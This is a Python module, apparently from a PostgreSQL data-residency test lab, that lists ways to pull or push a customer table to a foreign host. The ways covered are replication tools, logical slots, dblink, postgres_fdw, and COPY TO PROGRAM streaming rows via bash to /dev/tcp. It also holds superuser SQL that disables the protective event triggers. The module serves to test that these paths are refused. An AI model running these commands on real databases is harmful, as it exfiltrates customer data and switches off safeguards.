"""What somebody abroad tries, one row each: by which way, from whom, with which command. Pure.

The lines of pg_hba.conf are open, the passwords are known, and for what is pushed out a superuser
has switched the event triggers off. ``{address}`` is that of the host it is taken from.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass
from enum import StrEnum

from failover.lab.bench_residency_result import Kind
from failover.lab.singapore import ADDRESS, ADDRESS6, SINK_PORT
from failover.policy import Address

TABLE = "residency_bulk"
SLOT = "singapore"
MARK = "# singapore"
OPENED = "host all,replication all 0.0.0.0/0 scram-sha-256"
PUSHED_ROWS = 65536  # about 64 MiB
PIECE_ROWS = 16384  # of one statement


class Place(StrEnum):
    """Where an attempt takes from."""

    PRIMARY = "the active site's primary"
    STANDBY_LEADER = "the other site's standby leader"
    STANDBY_REPLICA = "the other site's replica"
    PROXY = "the active site's HAProxy"


SERVERS = (Place.PRIMARY, Place.STANDBY_LEADER, Place.STANDBY_REPLICA)


@dataclass(frozen=True, slots=True)
class Attempt:
    """One row. ``raises``: the ways that are found because of it, besides the line and the cut."""

    path: str
    kind: Kind
    place: Place
    command: str
    raises: tuple[str, ...] = ()

    @property
    def on_the_host(self) -> bool:
        """It is run on the database host, by the server's own user."""
        return self.kind in (Kind.DDL, Kind.PUSH)


_SQL = "psql -Xq -v ON_ERROR_STOP=1 -h {address}"
_LOCAL = "psql -XqtA -v ON_ERROR_STOP=1 -h /run/postgresql"
_AGAIN_AND_AGAIN = "while {}; do :; done; exit 1"
_COPY = f"-U marketplace -c 'copy {TABLE} to stdout' marketplace"

_WALSENDERS = {
    "streaming replication": (
        f"pg_receivewal -h {{address}} -U replicator -S {SLOT} --create-slot --if-not-exists; "
        f"pg_receivewal -n --no-sync -h {{address}} -U replicator -S {SLOT} -D /tmp/wal"
    ),
    "pg_basebackup": "pg_basebackup -h {address} -U replicator -X fetch -c fast -Ft -D -",
}
_LOGICAL = {
    "logical subscription": (
        "PGOPTIONS='-c statement_timeout=6s' "
        'psql -Xq -v ON_ERROR_STOP=1 -h /run/postgresql -c "create subscription pull connection '
        "'host={address} user=replicator dbname=postgres passfile={passfile} connect_timeout=4' "
        'publication offered" postgres'
    ),
    "slot peek, pg_recvlogical": (
        f"pg_recvlogical -h {{address}} -U replicator -d postgres -S {SLOT} -P test_decoding "
        "--create-slot --if-not-exists --start -n -f -"
    ),
    "slot peek, SQL": (
        f"{_SQL} -U replicator "
        f"-c \"select pg_create_logical_replication_slot('{SLOT}', 'test_decoding')\" "
        f"-c \"select pg_logical_slot_peek_changes('{SLOT}', null, null)\" postgres"
    ),
}
_DDL = {
    "publication": "create publication offered for all tables",
    "foreign table, extension": "create extension postgres_fdw",
    "dblink, extension": "create extension dblink",
}
_ABROAD = f"host={ADDRESS} user=postgres dbname=postgres connect_timeout=4"


def _to_program(address: Address) -> str:
    sink = f"/dev/tcp/{address}/{SINK_PORT}"
    rows = f"select filler from {TABLE} limit {PUSHED_ROWS}"
    return f"copy ({rows}) to program 'timeout 5 bash -c \"cat > {sink}\"'"


_PUSHES: dict[str, tuple[str, tuple[str, ...]]] = {
    "foreign table": (
        f"insert into residency_abroad select id, filler from {TABLE} limit {PUSHED_ROWS}",
        ("trigger_missing", "foreign_server", "extension"),
    ),
    "dblink": (
        f"select dblink_exec('{_ABROAD}', 'insert into taken values ' || rows) from (select "
        f"string_agg(format('(%s, %L)', id, filler), ',') from (select id, filler from {TABLE} "
        f"limit {PIECE_ROWS}) taken) piece (rows)",
        ("trigger_missing", "extension"),
    ),
    "COPY TO PROGRAM": (_to_program(ADDRESS), ()),
    "COPY TO PROGRAM, IPv6": (_to_program(ADDRESS6), ()),
}

# Before and after what is pushed: a superuser's own work on the primary.
TRIGGERS_OFF = (
    "alter event trigger failover_refuse_way_out disable",
    "alter event trigger failover_refuse_extension disable",
    "create extension postgres_fdw",
    "create extension dblink",
    f"create server singapore foreign data wrapper postgres_fdw options (host '{ADDRESS}', "
    "dbname 'postgres', connect_timeout '4', batch_size '1000')",
    "create user mapping for postgres server singapore "
    "options (user 'postgres', password_required 'false')",
    "create foreign table residency_abroad (id bigint, filler text) server singapore "
    "options (table_name 'taken')",
)
TRIGGERS_ON = (
    "drop extension if exists postgres_fdw cascade",
    "drop extension if exists dblink",
    "drop publication if exists offered",
    "alter event trigger failover_refuse_way_out enable always",
    "alter event trigger failover_refuse_extension enable always",
)


def local_sql(*statements: str) -> str:
    """As the superuser on the host, in the customers' database."""
    return " ".join([_LOCAL, *(f"-c {shlex.quote(each)}" for each in statements), "marketplace"])


def _pulls() -> list[Attempt]:
    rows = [
        Attempt(path, Kind.WALSENDER, place, command)
        for path, command in _WALSENDERS.items()
        for place in SERVERS
    ]
    rows += [
        Attempt(path, Kind.CLIENT if "SQL" in path else Kind.WALSENDER, Place.PRIMARY, command)
        for path, command in _LOGICAL.items()
    ]
    client = _AGAIN_AND_AGAIN.format(f"{_SQL} {_COPY}")
    rows += [Attempt("client, COPY TO STDOUT", Kind.CLIENT, place, client) for place in SERVERS]
    superuser = f"{_SQL} -U postgres -c 'select 1' postgres"
    through = f"{_SQL} -p {{port}} {_COPY}"
    return [
        *rows,
        Attempt("client, superuser", Kind.CLIENT, Place.PRIMARY, superuser),
        Attempt("client through HAProxy", Kind.PROXY, Place.PROXY, through),
    ]


def _pushes() -> list[Attempt]:
    return [
        Attempt(path, Kind.PUSH, Place.PRIMARY, local_sql(statement), raises)
        for path, (statement, raises) in _PUSHES.items()
    ]


REFUSED_DDL: tuple[Attempt, ...] = tuple(
    Attempt(path, Kind.DDL, Place.PRIMARY, local_sql(statement)) for path, statement in _DDL.items()
)
PULLS: tuple[Attempt, ...] = tuple(_pulls())
PUSHES: tuple[Attempt, ...] = tuple(_pushes())
